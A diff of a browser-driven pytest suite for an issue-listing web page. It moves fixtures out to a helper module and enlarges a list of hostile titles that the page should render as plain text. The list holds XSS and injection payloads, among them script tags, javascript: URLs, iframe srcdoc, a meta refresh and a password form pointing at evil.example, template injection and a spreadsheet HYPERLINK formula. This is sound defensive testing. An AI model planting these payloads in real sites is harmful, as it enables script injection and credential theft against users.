@@ -1,32 +1,37 @@
-import hashlib
 import re
-import shutil
-from collections.abc import Iterator, Mapping
-from contextlib import contextmanager
-from dataclasses import dataclass
 from html.parser import HTMLParser
-from pathlib import Path
 from typing import Any
-
-import httpx
-import pytest
 
 from issue_pipeline.labels import CATEGORIES, IMPACT_LEVELS
 from issue_pipeline.partitions import SOURCES
 from issue_pipeline.sandbox.pocketbase_server import PUBLIC, PocketBaseServer
+from issue_pipeline_tests.live.browsing import expect, opened_store, wait_for_titles
 
 # Ways in which text could become markup or code.
 SINKS = (
     "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
     "DOMParser", "createContextualFragment", "setHTML", "srcdoc", "javascript:",
 )  # fmt: skip
-WAIT_MS = 15_000
 PHONE = {"width": 360, "height": 740}
 HOSTILE_TEXTS = [
     "<script>window.pwned = 1</script>",
     '<img src=x onerror="window.pwned = 1">',
     '"><svg onload=window.pwned=1>',
+    "'-alert(1)-'",
+    "</title></style></textarea><script>window.pwned = 1</script>",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "javascript:window.pwned=1",
+    '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>* { display: none }</style>",
+    "<form action=//evil.example><input name=password autofocus></form>",
+    "&lt;script&gt;window.pwned = 1&lt;/script&gt;",
+    "<!-- <b>--><math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
     "{{constructor.constructor('window.pwned=1')()}}",
+    "${window.pwned = 1}`${window.pwned = 1}`",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E\\u003cscript\\u003e",
+    '=HYPERLINK("http://evil.example")',
+    "__proto__ constructor toString hasOwnProperty",
     "Long" * 250,
     "Z" + "\u0351\u036b\u0343" * 100 + "algo",
 ]
@@ -146,119 +151,6 @@ def test_every_category_impact_and_source_has_a_name_on_the_page():
 # What a browser shows
 
 
-@dataclass(frozen=True)
-class Store:
-    """Writes issues as a superuser, the way that any program could."""
-
-    url: str
-    http: httpx.Client
-
-    def put(self, day: str, title: str, **fields: Any) -> str:
-        """Create or replace the issue of this day and title."""
-        size = fields.pop("size", 6)
-        posts = fields.pop("posts", [])
-        record_id = derived_id(day, title)
-        issue = {
-            "id": record_id, "issue_date": day, "cluster_id": 0, "title": title,
-            "fingerprint": hashlib.sha256(title.encode()).hexdigest(), "category": "devtools",
-            "description": f"All about {title[:40]}.", "would_pay": False, "impact": "low",
-            "size": size, "sources": {"github": size}, "complete": True, **fields,
-        }  # fmt: skip
-        self._batch([put_request("issues", issue)])
-        for number, post in enumerate(posts):
-            evidence = {
-                "id": derived_id(record_id, str(number)), "issue": record_id, "source": "github",
-                "url": f"https://example.org/{number}", "title": f"Post {number}",
-                "snippet": "It broke.", "posted_at": "2026-03-10 12:00:00.000Z", "comments": 1,
-                "votes": 100 - number, **post,
-            }  # fmt: skip
-            self._batch([put_request("issue_evidence", evidence)])
-        return record_id
-
-    def remove(self, record_id: str) -> None:
-        self.http.delete(f"/api/collections/issues/records/{record_id}").raise_for_status()
-
-    def _batch(self, requests: list[Mapping[str, Any]]) -> None:
-        reply = self.http.post("/api/batch", json={"requests": requests})
-        assert reply.is_success, reply.text
-
-
-def put_request(collection: str, body: Mapping[str, Any]) -> Mapping[str, Any]:
-    return {"method": "PUT", "url": f"/api/collections/{collection}/records", "body": body}
-
-
-def derived_id(*parts: str) -> str:
-    return hashlib.sha256("/".join(parts).encode()).hexdigest()[:15]
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
-    with sync_api.sync_playwright() as playwright:
-        names = ("chromium", "chromium-browser", "google-chrome")
-        own = playwright.chromium.executable_path
-        program = next(filter(None, map(shutil.which, names)), own if Path(own).exists() else None)
-        if program is None:
-            pytest.skip("no Chromium is installed")
-        browser = playwright.chromium.launch(
-            executable_path=program,
-            chromium_sandbox=False,
-            args=["--disable-gpu", "--disable-quic", "--disable-background-networking"],
-        )
-        yield browser
-        browser.close()
-
-
-@pytest.fixture(scope="module")
-def server(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[PocketBaseServer]:
-    folder = tmp_path_factory.mktemp("live")
-    with PocketBaseServer(folder / "pocketbase", log=folder / "pocketbase.log") as server:
-        yield server
-
-
-@pytest.fixture
-def store(server: PocketBaseServer) -> Iterator[Store]:
-    with opened_store(server) as store:
-        yield store
-
-
-@contextmanager
-def opened_store(server: PocketBaseServer) -> Iterator[Store]:
-    who = {"identity": server.superuser.email, "password": server.superuser.password}
-    with httpx.Client(base_url=server.url, trust_env=False) as http:
-        reply = http.post("/api/collections/_superusers/auth-with-password", json=who)
-        http.headers["Authorization"] = reply.raise_for_status().json()["token"]
-        yield Store(server.url, http)
-
-
-@pytest.fixture
-def page(browser: Any) -> Iterator[Any]:
-    context = browser.new_context()
-    context.set_default_timeout(WAIT_MS)
-    page = context.new_page()
-    broken: list[str] = []
-    page.on("pageerror", lambda error: broken.append(str(error)))
-    page.on("dialog", lambda dialog: (broken.append(dialog.message), dialog.dismiss()))
-    page.on(
-        "console",
-        lambda message: broken.append(message.text) if "Security Policy" in message.text else None,
-    )
-    yield page
-    context.close()
-    assert broken == []
-
-
-def wait_for_titles(page: Any, expected: list[str]) -> None:
-    expect(page.locator(".issue .title")).to_have_text(expected)
-
-
-def expect(locator: Any) -> Any:
-    """Assertions that wait until they hold."""
-    from playwright.sync_api import expect
-
-    return expect(locator)
-
-
 def test_the_newest_day_is_listed_with_the_most_important_first(page, store):
     store.put("2026-03-01", "Yesterday's news")
     store.put("2026-12-30", "Small but grave", size=10, impact="high")
@@ -325,6 +217,7 @@ def test_hostile_text_stays_text_and_inside_the_page(page, store):
     page.set_viewport_size(PHONE)
     page.goto(f"{store.url}/?day={day}")
     wait_for_titles(page, HOSTILE_TEXTS)
+    assert len(HOSTILE_TEXTS) == 20
     for issue in page.locator(".issue").all():
         issue.locator("summary").click()
         issue.locator(".post").wait_for()
